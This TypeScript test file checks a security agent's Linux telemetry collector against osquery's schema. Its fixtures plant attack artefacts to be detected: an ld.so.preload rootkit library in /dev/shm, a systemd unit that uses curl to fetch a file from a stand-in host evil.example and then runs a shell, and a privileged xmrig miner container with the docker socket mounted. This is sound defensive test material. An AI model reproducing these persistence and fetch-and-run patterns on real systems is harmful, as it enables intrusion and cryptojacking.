// The agent's tables against osquery's Linux schema, on a fake root and on this (real) machine, and
// the tables added for the osquery-only detections.
import * as fs from "node:fs";
import * as http from "node:http";
import * as path from "node:path";
import { test } from "tap";
import { collectLinux, LINUX_TABLES, type Row } from "../../services/agent/telemetry/linux.js";
import { buildTree } from "./fixture-tree.js";

const root = buildTree();
process.once("exit", () => fs.rmSync(root, { recursive: true, force: true }));

const schemaPath = path.resolve(path.dirname(new URL(import.meta.url).pathname), "../../../reference/osquery-linux-schema.json");
const schema = JSON.parse(fs.readFileSync(schemaPath, "utf8")) as { tables: Record<string, { columns: string[] }> };
const columnsOf = (table: string): Set<string> => new Set((schema.tables[table]?.columns ?? []).map((c) => c.split(":")[0] ?? ""));

type T = Parameters<NonNullable<Parameters<typeof test>[0]>>[0];

function checkLayout(t: T, tables: Record<string, Row[]>): void {
  for (const [table, rows] of Object.entries(tables)) {
    t.ok(schema.tables[table], `${table} is an osquery Linux table`);
    const known = columnsOf(table);
    const bad = new Set<string>();
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        if (!known.has(column)) bad.add(column);
        if (typeof value !== "string") bad.add(`${column} (not a string)`);
      }
    }
    t.same([...bad], [], `${table}: every column exists in osquery's schema and carries a string`);
  }
}

test("fake root: every emitted table and column is in linux-schema.json", async (t) => {
  const all = await collectLinux(LINUX_TABLES, { root });
  t.same(Object.keys(all).sort(), [...LINUX_TABLES].sort());
  checkLayout(t, all);
});

test("real machine: every emitted table and column is in linux-schema.json", { skip: process.platform !== "linux" }, async (t) => {
  const all = await collectLinux(LINUX_TABLES, { maxRowsPerTable: 2000 });
  checkLayout(t, all);
  t.ok((all.processes?.length ?? 0) > 0, "processes read");
  t.ok((all.process_memory_map ?? []).some((r) => r.pid === String(process.pid) && /\.so/.test(r.path ?? "")), "this process's libraries are mapped");
  // The collector caps rows per table, so on a busy machine this process may be past the cap: any process will do.
  t.ok((all.process_envs ?? []).some((r) => /^\d+$/.test(r.pid ?? "") && r.key === "PATH"), "process environments are read");
  t.ok((all.file ?? []).some((r) => r.path === "/etc/passwd" && /^[0-7]{4}$/.test(r.mode ?? "")), "file row for /etc/passwd");
  t.ok((all.groups ?? []).some((r) => r.gid === "0"), "group 0 present");
  for (const row of all.shadow ?? []) t.notMatch(Object.values(row).join(" "), /\$\w+\$[^ ]{8,}/, "no hash material in shadow rows");
  // Kernel threads: empty path and cmdline, on_disk -1.
  for (const p of (all.processes ?? []).filter((r) => r.parent === "2")) t.same([p.path, p.cmdline, p.on_disk], ["", "", "-1"], `kernel thread ${p.name}`);
});

test("process_memory_map: libraries of a pid, deduplicated", async (t) => {
  const { process_memory_map } = await collectLinux(["process_memory_map"], { root });
  t.same(process_memory_map, [
    {
      pid: "123",
      start: "0x7f1c2a000000",
      end: "0x7f1c2a028000",
      permissions: "r--p",
      offset: "0",
      device: "08:01",
      inode: "2222",
      path: "/usr/lib/x86_64-linux-gnu/libc.so.6",
      pseudo: "0",
    },
    { pid: "123", start: "0x7f1c2b000000", end: "0x7f1c2b001000", permissions: "r-xp", offset: "4096", device: "00:1a", inode: "777", path: "/dev/shm/libhide.so", pseudo: "0" },
  ]);
});

test("file: security-relevant paths with osquery's formats", async (t) => {
  const { file } = await collectLinux(["file"], { root });
  const byPath = new Map((file ?? []).map((r) => [r.path, r]));
  const preload = byPath.get("/etc/ld.so.preload");
  t.match(preload, { directory: "/etc", filename: "ld.so.preload", mode: "0644", type: "regular", size: String("/dev/shm/libhide.so\n".length), symlink: "0", btime: "0" });
  t.match(preload?.mtime, /^\d+$/);
  t.ok(byPath.has("/etc/passwd") && byPath.has("/etc/sudoers") && byPath.has("/etc/crontab"));
  t.ok(byPath.has("/home/u/.ssh/authorized_keys"), "per-home authorized_keys");
  t.ok(byPath.has("/etc/sudoers.d/u"), "drop-in directory entries");
  t.notOk(byPath.has("/root/.ssh/authorized_keys"), "absent files are skipped");
});

test("augeas: Exec* directives of system, drop-in and user units", async (t) => {
  const { augeas } = await collectLinux(["augeas"], { root });
  const commands = (augeas ?? []).filter((r) => r.label === "command").map((r) => [r.node, r.value]);
  t.same(commands, [
    ["/files/etc/systemd/system/evil.service/Service/ExecStart/command", "/usr/bin/evil"],
    ["/files/etc/systemd/system/multi.service/Service/ExecStartPre/command", "/bin/mkdir"],
    ["/files/etc/systemd/system/multi.service/Service/ExecStart[1]/command", "/usr/bin/curl"],
    ["/files/etc/systemd/system/multi.service/Service/ExecStart[2]/command", "/bin/sh"],
    ["/files/etc/systemd/system/multi.service/Service/ExecStop/command", "/bin/true"],
    ["/files/etc/systemd/system/ssh.service/Service/ExecStart[2]/command", "/usr/sbin/sshd"],
    ["/files/lib/systemd/system/ssh.service/Service/ExecStart/command", "/usr/sbin/sshd"],
    ["/files/home/u/.config/systemd/user/agent.service/Service/ExecStart/command", "/home/u/.local/bin/agent"],
    ["/files/etc/systemd/system/ssh.service.d/override.conf/Service/ExecStart[2]/command", "/usr/sbin/sshd"],
  ]);
  const curlArgs = (augeas ?? []).filter((r) => (r.node ?? "").startsWith("/files/etc/systemd/system/multi.service/Service/ExecStart[1]/arguments/")).map((r) => r.value);
  t.same(curlArgs, ["-s", "http://evil.example/x", "-o", "/tmp/x"], "continuation lines joined");
  t.match(
    (augeas ?? []).find((r) => r.node === "/files/etc/systemd/system/multi.service/Service/ExecStartPre/ignoreexit"),
    { label: "ignoreexit", path: "/etc/systemd/system/multi.service" },
  );
});

test("shadow, groups, user_groups", async (t) => {
  const { shadow, groups, user_groups } = await collectLinux(["shadow", "groups", "user_groups"], { root });
  t.same(
    shadow?.map((r) => [r.username, r.password_status, r.hash_alg, r.last_change, r.min]),
    [
      ["root", "active", "6", "19000", "0"],
      ["u", "locked", "", "19001", "-1"],
      ["nobody", "locked", "", "18000", "0"],
      ["new", "not_set", "", "19002", "0"],
    ],
  );
  t.same(groups?.map((g) => [g.gid, g.gid_signed, g.groupname]), [
    ["0", "0", "root"],
    ["27", "27", "sudo"],
    ["1000", "1000", "u"],
    ["999", "999", "docker"],
  ]);
  t.same(user_groups?.filter((r) => r.uid === "1000").map((r) => r.gid), ["1000", "27", "999"]);
  t.same(user_groups?.filter((r) => r.uid === "1001").map((r) => r.gid), ["1001", "999"]);
});

test("docker tables: the Docker API on the socket; no socket, no rows", async (t) => {
  const none = await collectLinux(["docker_containers", "docker_container_mounts"], { root });
  t.same(none, { docker_containers: [], docker_container_mounts: [] });

  const dockerRoot = fs.mkdtempSync(path.join(path.dirname(root), "dk-"));
  t.teardown(() => fs.rmSync(dockerRoot, { recursive: true, force: true }));
  fs.mkdirSync(path.join(dockerRoot, "var/run"), { recursive: true });
  const id = "a".repeat(64);
  const seen: string[] = [];
  const server = http.createServer((req, res) => {
    seen.push(req.url ?? "");
    res.setHeader("content-type", "application/json");
    if (req.url === "/containers/json?all=1") {
      res.end(JSON.stringify([{ Id: id, Names: ["/miner"], Image: "alpine", ImageID: "sha256:ff", Command: "xmrig", Created: 1, State: "running", Status: "Up", Mounts: [{ Type: "bind", Source: "/var/run/docker.sock", Destination: "/var/run/docker.sock", RW: true }] }]));
    } else if (req.url === `/containers/${id}/json?stream=false`) {
      res.end(JSON.stringify({ Path: "xmrig", State: { Pid: 999999999 }, HostConfig: { Privileged: true }, Config: { Entrypoint: null, Env: [] } }));
    } else {
      res.statusCode = 404;
      res.end("{}");
    }
  });
  await new Promise<void>((resolve) => server.listen(path.join(dockerRoot, "var/run/docker.sock"), resolve));
  t.teardown(() => server.close());
  const result = await collectLinux(["docker_containers", "docker_container_mounts"], { root: dockerRoot });
  t.match(result.docker_containers, [{ id, name: "/miner", image_id: "ff", state: "running", pid: "999999999", privileged: "1", config_entrypoint: "" }]);
  t.same(result.docker_container_mounts, [
    { id, type: "bind", name: "", source: "/var/run/docker.sock", destination: "/var/run/docker.sock", driver: "", mode: "", rw: "1", propagation: "" },
  ]);
  t.ok(seen.includes("/containers/json?all=1"));
});
